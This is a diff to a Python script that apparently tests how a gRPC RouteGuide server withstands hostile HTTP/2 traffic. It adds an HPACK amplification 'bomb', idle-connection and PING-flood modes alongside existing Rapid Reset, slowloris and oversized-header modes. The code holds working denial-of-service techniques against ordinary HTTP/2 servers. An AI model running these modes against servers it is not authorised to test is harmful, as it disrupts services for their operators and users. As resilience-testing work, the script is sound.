@@ -9,14 +9,26 @@ Modes (each prints one line saying what the server did, then exits):
                      or after garbage
   big-headers N      one GetFeature request with an N-byte header value
   many-headers N     one GetFeature request with N headers of 60,000 bytes each
-  rst-flood N        N streams opened (HEADERS) and reset (RST_STREAM CANCEL) on one connection
+  rst-flood N        N streams opened (HEADERS) and reset (RST_STREAM CANCEL) on one connection;
+                     prints "goaway CODE DEBUG after K resets" if the server ends it
   slowloris N S      N connections that send all but the last byte of their preface, one
                      byte every half second, for S seconds; prints "open N" once all are
                      connected, then "closed K" (how many the server closed) at the end
   never-read N       N ListFeatures calls on one connection over the whole world, then never
                      reads; prints "sent" and sleeps until killed
+  hpack-bomb C S R H C connections with S RouteChat streams each (left open): the first header
+                     block puts one 4 KB field into the HPACK table, every block then refers
+                     to it R times (one byte each); prints "sent B bytes", holds the
+                     connections H seconds while reading the answers, then prints them
+                     ("answers: grpc-status 8 x 500, ...") and closes
+  idle N H           N connections that send a preface and SETTINGS, then nothing; prints
+                     "open N", then after H seconds (or once all are closed) how each ended:
+                     "goaway CODE DEBUG then closed after S s" or "open" (one line, counted)
+  pings N MS         one connection, N PINGs MS milliseconds apart (each ACK awaited);
+                     prints "goaway CODE DEBUG after K pings" or "no goaway after N pings"
 """
 
+import collections
 import socket
 import struct
 import sys
@@ -29,18 +41,12 @@ import h2.exceptions
 import h2.settings
 
 import route_guide_pb2
+from raw_h2 import (PREFACE, RawPeer, connect, frame, hpack_string, literal, raw_outcome,
+                    serve_peers)
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 WORLD = route_guide_pb2.Rectangle(
     lo=route_guide_pb2.Point(latitude=-2**31, longitude=-2**31),
     hi=route_guide_pb2.Point(latitude=2**31 - 1, longitude=2**31 - 1)).SerializeToString()
-
-
-def connect(address):
-    host, port = address.rsplit(":", 1)
-    sock = socket.create_connection((host, int(port)), timeout=10)
-    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    return sock
 
 
 def client(sock, window=None):
@@ -75,7 +81,7 @@ def outcome(sock, conn, stream, seconds=5):
             return "closed"
         for event in conn.receive_data(data):
             if isinstance(event, h2.events.ConnectionTerminated):
-                return f"goaway {int(event.error_code)}"
+                return goaway_text(event)
             if isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                 return f"reset {int(event.error_code)}"
             if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
@@ -86,6 +92,12 @@ def outcome(sock, conn, stream, seconds=5):
                 return f"status {status and status.decode()} grpc-status {grpc_status and grpc_status.decode()}"
         sock.sendall(conn.data_to_send())
     return "no answer"
+
+
+def goaway_text(event):
+    """`goaway CODE DEBUG-DATA` ("-" for none)."""
+    debug = (event.additional_data or b"").decode("utf-8", "replace")
+    return f"goaway {int(event.error_code)} {debug or '-'}"
 
 
 def churn(address, count):
@@ -111,25 +123,6 @@ def churn(address, count):
     print(f"churned {done}")
 
 
-def literal(name, value):
-    """An HPACK literal header field, never indexed, no Huffman: h2's encoder is quadratic
-    in the length of a value, and the point here is the size on the wire."""
-    def length(number):
-        if number < 127:
-            return bytes([number])
-        out, number = bytearray([127]), number - 127
-        while number >= 128:
-            out.append(number % 128 + 128)
-            number //= 128
-        return bytes(out + bytes([number]))
-    name, value = name.encode(), value.encode()
-    return b"\x10" + length(len(name)) + name + length(len(value)) + value
-
-
-def frame(kind, flags, stream, payload):
-    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
-
-
 def send_header_block(sock, address, extra):
     """Stream 1: a GetFeature request whose header block is split into CONTINUATION frames."""
     sock.sendall(PREFACE + frame(4, 0, 0, b""))
@@ -140,33 +133,6 @@ def send_header_block(sock, address, extra):
         flags = 0x4 if index == len(chunks) - 1 else 0
         sock.sendall(frame(1 if index == 0 else 9, flags, 1, chunk))
     sock.sendall(frame(0, 0x1, 1, b"\0\0\0\0\0"))
-
-
-def raw_outcome(sock, seconds=10):
-    """What came back for stream 1, read frame by frame."""
-    deadline, buffer = time.time() + seconds, b""
-    sock.settimeout(0.5)
-    while time.time() < deadline:
-        try:
-            data = sock.recv(65536)
-        except socket.timeout:
-            continue
-        except OSError as error:
-            return f"connection error {error.__class__.__name__}"
-        if not data:
-            return "closed"
-        buffer += data
-        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
-            length, kind, flags = int.from_bytes(buffer[:3], "big"), buffer[3], buffer[4]
-            stream, payload = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF, buffer[9:9 + length]
-            buffer = buffer[9 + length:]
-            if kind == 7:
-                return f"goaway {int.from_bytes(payload[4:8], 'big')}"
-            if kind == 3 and stream == 1:
-                return f"reset {int.from_bytes(payload[:4], 'big')}"
-            if kind == 1 and stream == 1 and flags & 0x1:
-                return "answered"
-    return "no answer"
 
 
 def big_headers(address, size):
@@ -223,7 +189,7 @@ def drain(sock, conn):
                 return "closed"
             for event in conn.receive_data(data):
                 if isinstance(event, h2.events.ConnectionTerminated):
-                    return f"goaway {int(event.error_code)}"
+                    return goaway_text(event)
     except BlockingIOError:
         return None
     except (OSError, h2.exceptions.ProtocolError) as error:
@@ -270,11 +236,73 @@ def never_read(address, count):
     time.sleep(3600)
 
 
+def hpack_bomb(address, connections, streams, refs, hold):
+    """The HPACK amplification attack: a few hundred bytes per header block that decode to a
+    megabyte, on streams left open."""
+    # Inserted with incremental indexing in the first block; the newest entry is index 62.
+    inserted = [(":path", "/routeguide.RouteGuide/RouteChat"), (":authority", address),
+                ("te", "trailers"), ("content-type", "application/grpc")]
+    used = sum(len(name) + len(value) + 32 for name, value in inserted)
+    bomb = ("x-bomb", "b" * (4096 - used - 32 - len("x-bomb")))
+    first = b"\x83\x86" + b"".join(b"\x40" + hpack_string(name) + hpack_string(value)
+                                   for name, value in inserted + [bomb])
+    # :method POST and :scheme http from the static table, the four request headers from the
+    # dynamic one (66..63), then the 4 KB field (62) `refs` times.
+    later = b"\x83\x86" + bytes([0x80 | 66, 0x80 | 65, 0x80 | 64, 0x80 | 63])
+    peers, sent = [RawPeer(address) for _ in range(connections)], 0
+    for peer in peers:
+        for index in range(streams):
+            block = (first if index == 0 else later) + bytes([0x80 | 62]) * refs
+            # END_HEADERS without END_STREAM: the calls stay open, waiting for messages.
+            data = frame(1, 0x4, 1 + 2 * index, block)
+            peer.send(data)
+            sent += len(data)
+    print(f"sent {sent} bytes", flush=True)
+    serve_peers(peers, hold)
+    counts = collections.Counter(answer for peer in peers for answer in peer.answers.values())
+    closed = sum(peer.closed_at is not None for peer in peers)
+    summary = ", ".join(f"{answer} x {count}" for answer, count in sorted(counts.items()))
+    print(f"answers: {summary or 'none'}; closed {closed}", flush=True)
+
+
+def idle(address, count, hold):
+    peers = [RawPeer(address) for _ in range(count)]
+    print(f"open {count}", flush=True)
+    serve_peers(peers, hold)
+    endings = collections.Counter()
+    for peer in peers:
+        if peer.goaways and peer.closed_at is not None:
+            code, debug, _ = peer.goaways[-1]
+            endings[f"goaway {code} {debug or '-'} then closed after "
+                    f"{round(peer.closed_at - peer.opened_at)} s"] += 1
+        elif peer.closed_at is not None:
+            endings["closed without goaway"] += 1
+        else:
+            endings["open"] += 1
+    print(", ".join(f"{ending} x {number}" for ending, number in sorted(endings.items())),
+          flush=True)
+
+
+def pings(address, count, interval_ms):
+    peer = RawPeer(address)
+    serve_peers([peer], 1)
+    for index in range(count):
+        peer.send(frame(6, 0, 0, index.to_bytes(8, "big")))
+        serve_peers([peer], 5, until=lambda: peer.ping_acks > index or peer.goaways)
+        if peer.goaways:
+            code, debug, _ = peer.goaways[-1]
+            print(f"goaway {code} {debug or '-'} after {index + 1} pings", flush=True)
+            return
+        time.sleep(interval_ms / 1000)
+    print(f"no goaway after {count} pings", flush=True)
+
+
 def main():
     mode, address = sys.argv[1], sys.argv[2]
     numbers = [int(argument) for argument in sys.argv[3:]]
     {"churn": churn, "big-headers": big_headers, "many-headers": many_headers, "rst-flood": rst_flood,
-     "slowloris": slowloris, "never-read": never_read}[mode](address, *numbers)
+     "slowloris": slowloris, "never-read": never_read, "hpack-bomb": hpack_bomb, "idle": idle,
+     "pings": pings}[mode](address, *numbers)
 
 
 if __name__ == "__main__":
